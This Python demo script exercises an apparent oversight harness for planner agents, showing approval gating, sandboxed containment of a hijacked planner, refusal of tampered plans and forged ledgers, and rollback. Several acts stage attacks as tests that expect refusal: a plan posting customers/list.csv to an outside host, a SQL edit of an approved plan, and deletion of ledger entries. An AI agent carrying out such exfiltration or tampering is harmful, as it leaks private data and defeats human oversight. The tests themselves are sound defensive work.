"""The acts of the story; each shows its evidence, and fails the demo where the evidence is not there."""

from __future__ import annotations

import os
import shutil
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

from interlock.artifact.verdict import Decision, Verdict
from interlock.decide.life import Status
from interlock.artifact.plan import ProposedStep
from interlock.harness.minting import known_resources, seal
from interlock.harness.proposals import Decided
from interlock.harness.running import Progress
from interlock.harness.service import Harness
from interlock.harness.stepping import Order, Result

from examples.demo.person import decide_as_person
from examples.demo.stage import PERSON, Stage, UnexpectedError, proposal, step, until

GOAL = "optimise our cloud spend"
OLD, MAIN, NEW = "prod-database-main-oversized-old", "prod-database-main", "prod-database-main-small"
HIJACK = Path(__file__).with_name("hijacked_planner.py")


def rightsizing(old: str, new: str, snapshot: str) -> tuple[object, ...]:
    """Snapshot, restore into a smaller one, wait until that is proven complete, then delete the old one."""
    return (
        step("snapshot", "cloud.snapshot_database@1", {"instance": old, "snapshot": snapshot},
             expect={"$eq": [{"$ref": "output.status"}, "available"]}),
        step("restore", "cloud.restore_database@1", {"instance": new, "snapshot": snapshot, "size": "db.t4g.large"},
             needs=("snapshot",)),
        step("verify", "cloud.wait_for_database@1", {"instance": new, "replaces": old}, needs=("restore",),
             expect={"$eq": [{"$ref": "output.complete"}, 1]}),
        step("delete", "cloud.delete_database@1", {"instance": old}, needs=("verify",)),
    )  # fmt: skip


def propose(stage: Stage, harness: Harness, goal: str, *steps: object, quiet: bool = False) -> Decided:
    """A planner process of its own hands the plan in, over its one channel."""
    task = harness.start_task(goal)
    outcome = harness.plan(task.id, "file", handed=proposal(task, *steps))  # type: ignore[arg-type]
    if outcome.violated or not outcome.decided:
        raise UnexpectedError(f"the planner handed in nothing: {outcome}")
    decided = outcome.decided[-1]
    if not quiet:
        count = f"{len(steps)} steps" if len(steps) > 1 else "1 step"
        stage.note(f'a planner process proposes {count} for "{goal}"')
    return decided


def reasons(verdict: Verdict) -> str:
    """The codes of what is not simply allowed."""
    return ", ".join(dict.fromkeys(one.code for one in verdict.reasons if one.decision is not Decision.ALLOW))


def sound_plan(stage: Stage) -> None:
    stage.act(1, "The sound plan asks once, and runs")
    with stage.harness() as harness:
        decided = propose(stage, harness, GOAL, *rightsizing(OLD, NEW, "before-rightsizing"))
        stage.prove("the gate asks a person, once, for the whole plan", reasons(decided.verdict),
                    decided.verdict.decision is Decision.STEP_UP)  # fmt: skip
        digest = decided.digest or ""
        stage.show(decide_as_person(harness, digest, PERSON, interactive=stage.interactive))
        status = harness.execute(digest, lambda progress: _tell(stage, progress))
        stage.prove("the plan ran to its end", f"plan {digest[:12]}", status is Status.DONE)
        stage.prove("the cloud agrees", stage.databases(), set(stage.databases()) == {MAIN, NEW})


def _tell(stage: Stage, progress: Progress) -> None:
    if progress.state != "started":
        stage.note(f"step {progress.step}: {progress.state} {progress.code}".rstrip())


def protected(stage: Stage) -> None:
    stage.act(2, "The same plan with the wrong name is denied, whoever would approve it")
    with stage.harness() as harness:
        decided = propose(stage, harness, GOAL, *rightsizing(MAIN, "prod-database-copy", "before-mistake"))
        stage.prove(f"{MAIN} is protected", reasons(decided.verdict), decided.verdict.decision is Decision.DENY)
        stage.prove("and still there", stage.databases()[MAIN], MAIN in stage.databases())


def hijacked(stage: Stage) -> None:
    stage.act(3, "A hijacked planner tries a socket, a file and a shell")
    with stage.harness() as harness:
        task = harness.start_task(GOAL)
        outcome, output = harness.drill(task.id, HIJACK.read_bytes())
        stage.show(output)
        stage.prove("every attempt failed", "EPERM", outcome.violated and "got through" not in output)
        [incident] = [one for one in harness.core.store.incidents(still_open=True) if one.task == task.id]
        stage.prove("it is an incident, by name", f"{incident.code}: {incident.detail}")
        again = harness.propose(task.id, proposal(task, step("s1", "files.read@1", {"path": "notes.txt"})))
        stage.prove("the task is frozen", reasons(again.verdict), "task.frozen" in reasons(again.verdict))
        harness.close_incident(incident.id, PERSON, "a drill")


def tampered_plan(stage: Stage) -> None:
    stage.act(4, "A plan that was changed after its approval does not run")
    with stage.harness() as harness:
        decided = propose(stage, harness, "delete the old snapshot",
                          step("s1", "cloud.delete_snapshot@1", {"snapshot": "before-rightsizing"}))  # fmt: skip
        digest = decided.digest or ""
        decide_as_person(harness, digest, PERSON, interactive=False)
        with sqlite3.connect(harness.core.workspace.state / "harness.db") as database:
            database.execute("UPDATE plan SET doc = CAST(replace(CAST(doc AS TEXT), ?, ?) AS BLOB) WHERE digest = ?",
                             ("delete_snapshot", "delete_database", digest))  # fmt: skip
        database.close()
    found = stage.interlock("execute", digest, check=False)
    stage.prove("refused", _code(found.stderr), found.returncode not in {0, 1, 2})


def outside_the_grant(stage: Stage) -> None:
    stage.act(5, "A step process refuses what its grant does not say, even when the harness asks for it")
    with stage.harness() as harness:
        refused = misdirected_step(harness)
        stage.prove("the step refused by itself", refused.code, not refused.ok and not refused.effect_possible)


def misdirected_step(harness: Harness) -> Result:
    """One plan's step under another plan's grant, as a harness that was taken over might order it."""
    core = harness.core
    task = harness.start_task("two plans")
    core.store.load_groups(task.id, task.groups)
    paths = ("one.txt", "two.txt")
    rows = [core.store.plan(harness.propose(task.id, proposal(task, _writes(path))).digest or "") for path in paths]
    mine, other = (seal(core, row.plan, task.id) for row in rows)
    step_of_mine = rows[0].plan.steps[0]
    order = Order(
        task=task.id, plan=mine.digest, envelope=mine.envelope, grant=other.grant, step="s1",
        manifest=core.catalogue[step_of_mine.action], touched=known_resources(core, step_of_mine),
        arguments=step_of_mine.arguments,
    )  # fmt: skip
    return harness.stepper.run(order)


def _writes(path: str) -> ProposedStep:
    return step("s1", "files.write@1", {"path": path, "content": "x"})


def private_data(stage: Stage) -> None:
    stage.act(6, "Private data on its way to an outside host is refused")
    with stage.harness() as harness:
        text = {"$template": ["summary: ", {"$ref": "read.output.text"}]}
        decided = propose(stage, harness, "report on our customers",
                          step("read", "files.read@1", {"path": "customers/list.csv"}),
                          step("send", "http.post@1", {"url": "https://reports.example/", "body": text}))  # fmt: skip
        stage.prove("denied by its labels, not by its words", reasons(decided.verdict),
                    decided.verdict.decision is Decision.DENY)  # fmt: skip


def killed(stage: Stage) -> None:
    stage.act(7, "kill -9 in the middle, then the honest state")
    with stage.harness() as harness:
        decided = propose(stage, harness, "tidy up",
                          step("first", "files.write@1", {"path": "one.txt", "content": "1"}),
                          step("middle", "cloud.snapshot_database@1", {"instance": NEW, "snapshot": "slow"}),
                          step("last", "files.write@1", {"path": "two.txt", "content": "2"}))  # fmt: skip
        digest = decided.digest or ""
        decide_as_person(harness, digest, PERSON, interactive=False)
    victim = subprocess.Popen(
        [sys.executable, "-m", "examples.demo.victim", str(stage.folder), digest], start_new_session=True
    )
    until(lambda: (stage.folder / "one.txt").exists() and _claimed(stage, digest, "middle"))
    os.killpg(victim.pid, signal.SIGKILL)
    victim.wait()
    with stage.harness() as harness:
        row = harness.core.store.plan(digest)
        states = {claim.step: claim.state for claim in harness.core.store.claims(digest)}
        stage.prove("the plan is halted, and says so", row.stopped, row.status is Status.HALTED)
        stage.prove("what was in flight is unknown, not done and not repeated", states,
                    states == {"first": "done", "middle": "unknown"})  # fmt: skip
        stage.prove("nothing after it ran", "two.txt is absent", not (stage.folder / "two.txt").exists())


def _claimed(stage: Stage, digest: str, name: str) -> bool:
    with sqlite3.connect(stage.scratch / "state" / _only(stage) / "harness.db") as database:
        found = database.execute("SELECT 1 FROM claim WHERE plan = ? AND step = ?", (digest, name)).fetchone()
    database.close()
    return found is not None


def _only(stage: Stage) -> str:
    [folder] = (stage.scratch / "state").iterdir()
    return folder.name


def rollback(stage: Stage) -> None:
    stage.act(8, "Files go back to what they were")
    before = (stage.folder / "notes.txt").read_bytes()
    with stage.harness() as harness:
        decided = propose(stage, harness, "rewrite the notes",
                          step("s1", "files.write@1", {"path": "notes.txt", "content": "cloud bill: 900 a month\n"}),
                          step("s2", "files.write@1", {"path": "report.txt", "content": "done"}))  # fmt: skip
        digest = decided.digest or ""
        stage.prove("reversible steps in scope pass without a question", decided.verdict.decision.value,
                    decided.verdict.decision is Decision.ALLOW)  # fmt: skip
        harness.execute(digest)
        changed = (stage.folder / "notes.txt").read_bytes() != before
        undone = [one.state for one in harness.rollback(digest)]
        same = (stage.folder / "notes.txt").read_bytes() == before and not (stage.folder / "report.txt").exists()
        stage.prove("written, then taken back byte for byte", undone, changed and same)


def proofs(stage: Stage) -> None:
    stage.act(9, "Everything above can be proved to an outsider, and a forgery cannot")
    stage.prove("interlock ledger verify", _code(stage.interlock("ledger", "verify").stdout))
    bundle = stage.scratch / "ledger.jsonl"
    stage.interlock("ledger", "export", str(bundle))
    with stage.harness() as harness:
        key = harness.core.ledger.key.vkey
    passed = _offline(bundle, key)
    said = _code(passed.stdout) or _code(passed.stderr)
    stage.prove("the offline verifier agrees, with the public key alone", said, not passed.returncode)
    forged = stage.scratch / "forged.jsonl"
    forged.write_text(bundle.read_text().replace("ALLOW", "DENY", 1))
    failed = _offline(forged, key)
    stage.prove("it refuses a copy with one word changed", _code(failed.stderr), failed.returncode == 5)
    copy = stage.scratch / "copy"
    shutil.copytree(stage.scratch / "state", copy)
    with sqlite3.connect(next(copy.glob("*/ledger.db"))) as database:
        database.execute(CUT_THE_TAIL)
    database.close()
    os.environ["INTERLOCK_STATE"] = str(copy)
    cut = stage.interlock("ledger", "verify", check=False)
    os.environ["INTERLOCK_STATE"] = str(stage.scratch / "state")
    stage.prove("interlock refuses a log with its tail cut off", _code(cut.stderr), cut.returncode == 5)


CUT_THE_TAIL = "DELETE FROM leaf WHERE idx = (SELECT max(idx) FROM leaf)"


def _offline(bundle: Path, key: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "interlock.verify", str(bundle), "--key", key],
        capture_output=True,
        text=True,
        check=False,
    )


def _code(text: str) -> str:
    """The first line of an error."""
    return next((line.strip() for line in text.splitlines() if line.strip()), "")[:90]


ACTS = (
    sound_plan, protected, hijacked, tampered_plan, outside_the_grant, private_data, killed, rollback, proofs,
)  # fmt: skip
